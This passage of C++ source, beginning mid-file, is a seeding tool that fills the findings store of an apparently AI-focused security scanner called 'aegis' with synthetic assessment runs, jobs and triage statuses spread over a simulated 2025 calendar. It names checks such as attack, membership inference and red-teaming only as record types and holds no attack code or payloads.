      options.seed = parse_count(flag, value, 0, UINT64_MAX);
    }
  }
  if (!have_store) usage_error("--store FILE.db is required");
  if (!have_findings) usage_error("--findings N is required");
  return options;
}

int run(const Options& options) {
  const auto clock_start = std::chrono::steady_clock::now();
  Random random(options.seed);
  const auto assets = make_assets(random, options.assets);

  // The calendar: a round every two weeks from 2025-01-06; even rounds are assessments of the whole
  // inventory, odd rounds are engineers re-running single commands by hand on some assets.
  constexpr std::int64_t kFirstRound = 1736150400;  // 2025-01-06T08:00:00Z
  constexpr std::int64_t kRoundSeconds = 14 * 86400;
  constexpr int kRounds = 8;
  std::vector<PlannedRun> plan;
  std::vector<std::int64_t> assessment_starts;
  for (int round = 0; round < kRounds; ++round) {
    const std::int64_t round_start = kFirstRound + round * kRoundSeconds;
    const bool assessment = round % 2 == 0;
    if (assessment) assessment_starts.push_back(round_start);
    std::int64_t clock = round_start;
    for (std::size_t a = 0; a < assets.size(); ++a) {
      if (!assessment && !random.chance(0.6)) continue;
      for (const auto& check : checks_for(assets[a])) {
        if (assessment && check.check.empty()) continue;  // guard is not an assessment check
        if (!assessment && !random.chance(0.5)) continue;
        PlannedRun run;
        run.asset = a;
        run.check = check;
        run.in_assessment = assessment;
        run.assessment = assessment_starts.size() - 1;
        run.failed = assessment && random.chance(0.03);
        run.round = round;
        clock += 20 + static_cast<std::int64_t>(random.below(600));
        run.started = assessment ? clock : round_start + static_cast<std::int64_t>(random.below(10 * 86400));
        const std::string& command = check.command;
        if (bulk(command) && !run.failed)
          run.weight = (command == "pii" ? 6.0 : command == "scan" ? 3.0 : command == "audit-infra" ? 1.0 : 0.6) * random.uniform(0.2, 1.8);
        plan.push_back(std::move(run));
      }
    }
  }

  // Structured runs (attack, mia, extract) get the findings their numbers call for; the bulk runs
  // share the rest, so that the store holds exactly --findings findings.
  std::vector<std::vector<Finding>> structured(plan.size());
  std::vector<json> summaries(plan.size());
  for (std::size_t i = 0; i < plan.size(); ++i) {
    auto& run = plan[i];
    if (run.failed) continue;
    const Asset& asset = assets[run.asset];
    // Models get a little more robust and leak a little less as teams fix what the rounds found.
    const double robustness = std::min(0.95, asset.robustness + 0.04 * run.round);
    const double leakage = std::max(0.0, asset.leakage - 0.05 * run.round);
    const std::string& command = run.check.command;
    if (command == "attack") summaries[i] = attack_summary(random, asset, robustness, structured[i]);
    else if (command == "mia") summaries[i] = mia_summary(random, asset, leakage, structured[i]);
    else if (command == "extract") summaries[i] = extract_summary(random, asset, structured[i]);
    else if (command == "guard")
      summaries[i] = {{"prompts", 500}, {"blocked", random.below(80)}, {"flagged", random.below(40)}, {"seconds", random.uniform(0.2, 3)}};
  }
  std::uint64_t budget = options.findings;
  for (std::size_t i = 0; i < plan.size(); ++i) {  // when --findings is small, the structured ones are cut too
    const std::uint64_t keep = std::min<std::uint64_t>(structured[i].size(), budget);
    structured[i].resize(static_cast<std::size_t>(keep));
    plan[i].findings = static_cast<std::size_t>(keep);
    budget -= keep;
  }
  double total_weight = 0;
  for (const auto& run : plan) total_weight += run.weight;
  if (budget > 0 && total_weight > 0) {
    std::uint64_t given = 0;
    std::size_t last_bulk = 0;
    for (std::size_t i = 0; i < plan.size(); ++i) {
      if (plan[i].weight <= 0) continue;
      const auto share = static_cast<std::uint64_t>(std::floor(static_cast<double>(budget) * plan[i].weight / total_weight));
      plan[i].findings += static_cast<std::size_t>(share);
      given += share;
      last_bulk = i;
    }
    plan[last_bulk].findings += static_cast<std::size_t>(budget - given);
  } else if (budget > 0) {
    std::cerr << "aegis_seed_store: no run can hold the remaining " << budget << " findings\n";
    return 1;
  }

  aegis::store::FindingStore store(std::filesystem::path(options.store));
  std::vector<std::int64_t> assessment_ids;
  for (std::size_t k = 0; k < assessment_starts.size(); ++k) {
    aegis::store::AssessmentRecord record;
    record.inventory = "inventories/production.yaml";
    record.started_at = rfc3339(assessment_starts[k]);
    assessment_ids.push_back(store.begin_assessment(record));
  }
  std::vector<json> plan_assets(assessment_starts.size(), json::array());
  std::vector<std::map<std::size_t, json>> plan_checks(assessment_starts.size());
  std::vector<std::int64_t> assessment_end(assessment_starts.size(), 0);

  // Written in time order, as they would have happened.
  std::vector<std::size_t> order(plan.size());
  for (std::size_t i = 0; i < order.size(); ++i) order[i] = i;
  std::stable_sort(order.begin(), order.end(), [&](std::size_t x, std::size_t y) { return plan[x].started < plan[y].started; });

  Progress progress(options.findings);
  std::uint64_t written = 0;
  std::size_t runs_written = 0, jobs_done = 0, jobs_failed = 0;
  std::vector<std::int64_t> triage_ids;
  std::map<std::pair<std::size_t, std::string>, std::int64_t> latest_of;  // (asset, command) -> newest run id
  for (const std::size_t i : order) {
    auto& planned = plan[i];
    const Asset& asset = assets[planned.asset];
    const std::string& command = planned.check.command;
    const std::int64_t seconds = command == "scan" || command == "audit-infra" ? 5 + static_cast<std::int64_t>(random.below(120))
                                                                                : 60 + static_cast<std::int64_t>(random.below(3600));
    aegis::store::RunRecord run;
    run.command = planned.in_assessment ? "assess:" + planned.check.check : command;
    run.asset = asset.name;
    if (command == "scan") run.inputs = {asset.model_file};
    else if (command == "pii") run.inputs = {asset.dataset_file};
    else if (command == "audit-infra") run.inputs = {"deploy/" + asset.name};
    else if (command == "redteam") run.inputs = {asset.url};
    else if (command == "guard") run.inputs = {"prompts/" + asset.name + ".jsonl"};
    else run.inputs = {asset.model_file, "data/" + asset.name + "/test.npz"};
    run.started_at = rfc3339(planned.started);
    run.finished_at = rfc3339(planned.started + seconds);
    run.aegis_version = planned.round < 4 ? "0.9.2" : "1.0.0";

    // The bulk findings are made as the store pulls them, so 100,000 of them never sit in memory.
    std::map<std::string, std::size_t> entities;
    std::size_t index = 0;
    Finding current;
    bool severe = false;
    auto next = [&]() -> const Finding* {
      if (index >= planned.findings) return nullptr;
      if (index < structured[i].size()) current = structured[i][index];
      else current = bulk_finding(random, asset, command, index, entities);
      severe = severe || current.severity >= Severity::High;
      ++index;
      if ((++written & 1023) == 0) progress.update(written, runs_written);
      return &current;
    };

    auto summary_of = [&]() -> json {
      if (command == "pii") return pii_summary(random, asset, entities, planned.findings);
      if (command == "scan")
        return {{"summary", {{"files_scanned", 1 + random.below(40)}, {"bytes_scanned", random.below(4'000'000'000ull)}}}};
      if (command == "audit-infra") return {{"files", 1 + random.below(12)}, {"targets", json::array()}};
      if (command == "redteam")
        return {{"target", asset.url}, {"attempts", 400 + random.below(600)}, {"families", json::array()}};
      return summaries[i];
    };

    std::int64_t run_id = 0;
    if (planned.in_assessment) {
      const std::size_t k = planned.assessment;
      aegis::store::JobRecord job;
      job.assessment_id = assessment_ids[k];
      job.job_key = random.hex(64);
      job.asset = asset.name;
      job.check = planned.check.check;
      job.state = planned.failed ? "failed" : "done";
      job.worker = "worker-" + std::to_string(1 + random.below(4)) + "@assess-" + std::to_string(1 + random.below(2));
      job.finished_at = run.finished_at;
      assessment_end[k] = std::max(assessment_end[k], planned.started + seconds);
      plan_checks[k][planned.asset].push_back({{"check", job.check}, {"state", "planned"}, {"reason", ""}, {"job_key", job.job_key}});
      if (planned.failed) {
        job.error = random.chance(0.5) ? "the check ran longer than its 3600 s limit and was stopped"
                                       : "the check died of signal 9 (Killed): out of memory loading " + asset.model_file;
        store.record_job(job, run, {});
        ++jobs_failed;
        continue;
      }
      // record_job takes the findings as a vector: make this run's findings now (runs are small).
      std::vector<Finding> findings;
      findings.reserve(planned.findings);
      while (const Finding* f = next()) findings.push_back(*f);
      run.exit_code = severe ? 1 : 0;
      json results = summary_of();
      results["inputs"] = run.inputs;
      json wrapped = {{"results", results}, {"command", "aegis " + command + " " + run.inputs.front()}, {"job_key", job.job_key}};
      run.summary_json = wrapped.dump();
      run_id = store.record_job(job, run, findings).first;
      ++jobs_done;
    } else {
      // Stand-alone runs record the command's own results, as `aegis audit-infra --store` does.
      if (command == "pii") {
        // pii's summary counts the entities of its findings: make them first, then the summary.
        std::vector<Finding> findings;
        findings.reserve(planned.findings);
        while (const Finding* f = next()) findings.push_back(*f);
        run.exit_code = severe ? 1 : 0;
        run.summary_json = summary_of().dump();
        run_id = store.record_run(run, findings);
      } else {
        run.summary_json = summary_of().dump();
        run.exit_code = planned.findings > 0 ? 1 : 0;  // streamed: the severities are not known yet
        run_id = store.record_run_streamed(run, next);
      }
    }
    ++runs_written;
    latest_of[{planned.asset, run.command}] = run_id;
    progress.update(written, runs_written);
  }
  progress.finish();

  for (std::size_t k = 0; k < assessment_ids.size(); ++k) {
    json assets_json = json::array();
    for (const auto& [a, checks] : plan_checks[k])
      assets_json.push_back({{"id", assets[a].name}, {"checks", checks}, {"techniques", json::array()}});
    const json document = {{"plan_version", 1}, {"inventory", "inventories/production.yaml"}, {"organisation", "Example Corp"},
                           {"assets", assets_json}};
    store.update_assessment(assessment_ids[k], "finished", document.dump(), rfc3339(assessment_end[k] + 30));
  }

  // Triage: some findings of the newest runs have been looked at.
  std::size_t triaged = 0;
  static const std::vector<std::string_view> statuses = {
      aegis::store::kStatusAcknowledged, aegis::store::kStatusAcknowledged, aegis::store::kStatusAcceptedRisk,
      aegis::store::kStatusFalsePositive, aegis::store::kStatusFixed};
  for (const auto& [key, run_id] : latest_of) {
    if (triaged >= 2000) break;
    if (!random.chance(0.3)) continue;
    store.for_each_finding(run_id, [&](const aegis::store::StoredFinding& f) {
      if (triaged < 2000 && random.chance(0.08)) {
        triage_ids.push_back(f.id);
        ++triaged;
      }
    });
  }
  for (const auto id : triage_ids) store.set_status(id, statuses[random.below(statuses.size())]);

  const double seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - clock_start).count();
  std::printf("seeded %s: %llu findings in %zu runs over %zu assets; %zu assessments (%zu jobs done, %zu failed); "
              "%zu findings triaged; %.1f s\n",
              options.store.c_str(), static_cast<unsigned long long>(written), runs_written, assets.size(),
              assessment_ids.size(), jobs_done, jobs_failed, triaged, seconds);
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  const Options options = parse_arguments(argc, argv);
  try {
    return run(options);
  } catch (const aegis::core::Error& e) {
    std::cerr << "aegis_seed_store: " << e.what() << "\n";
    return 1;
  } catch (const std::exception& e) {
    std::cerr << "aegis_seed_store: " << e.what() << "\n";
    return 1;
  }
}
